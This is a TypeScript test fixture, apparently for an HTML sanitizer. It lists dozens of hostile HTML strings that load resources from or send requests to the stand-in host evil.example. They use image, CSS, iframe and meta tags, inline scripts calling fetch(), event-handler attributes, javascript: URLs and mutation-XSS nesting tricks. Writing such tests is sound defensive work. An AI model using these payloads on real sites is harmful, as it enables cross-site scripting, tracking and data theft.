/** Where each attack would show that it worked. */
const THERE = 'https://evil.example';

/**
 * HTML that would ask `evil.example` something, or run a script, if it were shown carelessly: one way in per line. The
 * words `seen` show that what is harmless in it stays.
 */
export const HOSTILE: readonly string[] = [
  // Pictures
  `seen <img src="${THERE}/1.png">`,
  `seen <img srcset="${THERE}/2.png 1x, ${THERE}/2b.png 2x">`,
  `seen <img src="//evil.example/3.png">`,
  `seen <img src="\\\\evil.example\\4.png">`,
  `seen <img src=" &#9;htt\nps://evil.example/5.png">`,
  `seen <picture><source srcset="${THERE}/6.webp"><img src="${THERE}/6.png"></picture>`,
  `seen <input type="image" src="${THERE}/7.png">`,
  `seen <input type="button" src="${THERE}/7b.png" value="seen">`,
  `seen <video poster="${THERE}/8.png" src="${THERE}/8.mp4" autoplay></video>`,
  `seen <audio src="${THERE}/9.mp3" autoplay></audio>`,
  `seen <table background="${THERE}/10.png"><tr><td background="${THERE}/10b.png">seen</td></tr></table>`,
  `<body background="${THERE}/11.png">seen</body>`,
  `seen <svg><image href="${THERE}/12.svg" width="9" height="9"/></svg>`,
  `seen <svg><image xlink:href="${THERE}/13.svg" width="9" height="9"/></svg>`,
  `seen <svg><use href="${THERE}/14.svg#a"/></svg>`,
  `seen <svg><filter id="f"><feImage href="${THERE}/15.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
  `seen <svg><rect width="9" height="9" fill="url(${THERE}/16.svg#p)" cursor="url(${THERE}/16.cur), auto"/></svg>`,
  `seen <svg><rect width="9" height="9" mask="u\\72l(${THERE}/17.svg#m)"/></svg>`,
  `seen <svg><animate attributeName="href" values="${THERE}/18.png"/><set attributeName="href" to="${THERE}/18b"/></svg>`,
  `seen <svg><foreignObject><img src="${THERE}/19.png"></foreignObject></svg>`,
  // Styles
  `<style>body { background: url(${THERE}/20.png) }</style>seen`,
  `<style>@import "${THERE}/21.css"; @import url(${THERE}/21b.css);</style>seen`,
  `<style>@font-face { font-family: x; src: url(${THERE}/22.woff) } p { font-family: x }</style><p>seen</p>`,
  `<p style="background-image: url('${THERE}/23.png')">seen</p>`,
  `<p style="background: u\\72 l(${THERE}/24.png)">seen</p>`,
  `<p style="list-style: url(${THERE}/25.png); display: list-item">seen</p>`,
  `<p style="background-image: image-set('${THERE}/26.png' 1x)">seen</p>`,
  `<p style="--a: url(${THERE}/27.png); background: var(--a)">seen</p>`,
  `<p style="cursor: url(${THERE}/28.cur), auto; border-image: url(${THERE}/28.png) 1">seen</p>`,
  `<style>p::before { content: url(${THERE}/29.png) }</style><p>seen</p>`,
  `<style>@media all { @supports (color: red) { p { background: url(${THERE}/30.png) } } }</style><p>seen</p>`,
  `<style>p { background: url("data:image/png;base64,AAAA"), url(${THERE}/31.png) }</style><p>seen</p>`,
  `<style>p { content: "</style><img src=${THERE}/32.png>" }</style><p>seen</p>`,
  `<p style="content: '&lt;/style&gt;&lt;img src=${THERE}/33.png&gt;'">seen</p>`,
  `<style>p { animation: a 1s } @keyframes a { to { background: url(${THERE}/34.png) } }</style><p>seen</p>`,
  `<svg><style>rect { fill: url(${THERE}/35.svg#a) }</style><rect width="9" height="9"/></svg>seen`,
  // Other documents
  `seen <link rel="stylesheet" href="${THERE}/36.css"><link rel="preload" as="image" href="${THERE}/36.png">`,
  `seen <link rel="prefetch" href="${THERE}/37"><link rel="dns-prefetch preconnect" href="${THERE}">`,
  `seen <base href="${THERE}/"><img src="38.png">`,
  `seen <meta http-equiv="refresh" content="0; url=${THERE}/39">`,
  `seen <iframe src="${THERE}/40"></iframe><iframe srcdoc="<img src='${THERE}/40b.png'>"></iframe>`,
  `seen <object data="${THERE}/41.svg"></object><embed src="${THERE}/41b.svg">`,
  `<frameset><frame src="${THERE}/42"></frameset>seen`,
  `seen <form action="${THERE}/43"><button autofocus formaction="${THERE}/43b">seen</button></form>`,
  // Scripts
  `seen <script>parent.postMessage('ran', '*'); fetch('${THERE}/44')</script>`,
  `seen <script src="${THERE}/45.js"></script>`,
  `seen <img src="x" onerror="fetch('${THERE}/46')">`,
  `seen <svg onload="fetch('${THERE}/47')"></svg><details open ontoggle="fetch('${THERE}/47b')">seen</details>`,
  `seen <a href="javascript:fetch('${THERE}/48')" autofocus onfocus="fetch('${THERE}/48b')">seen</a>`,
  // What a second parse turns into something else
  `seen <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=${THERE}/49.png&gt;">`,
  `seen <noscript><p title="</noscript><img src=${THERE}/50.png>">seen</p></noscript>`,
  `seen <svg></p><style><a id="</style><img src=${THERE}/51.png>">`,
  `seen <template><img src="${THERE}/52.png"></template><template shadowrootmode="open"><img src="${THERE}/52b.png"></template>`,
  `seen <form><math><mtext></form><form><mglyph><style></math><img src=${THERE}/53.png>`,
  `seen <xmp><p title="</xmp><img src=${THERE}/54.png>">seen</p></xmp><plaintext><img src=${THERE}/54b.png>`,
  `seen <a href="${THERE}/55" ping="${THERE}/55b" target="_top">seen</a><a id="attributes" name="body">seen</a>`,
  `seen <flexy-pos store-id="1"></flexy-pos><x-y is="z" style="background:url(${THERE}/56.png)">seen</x-y>`,
];
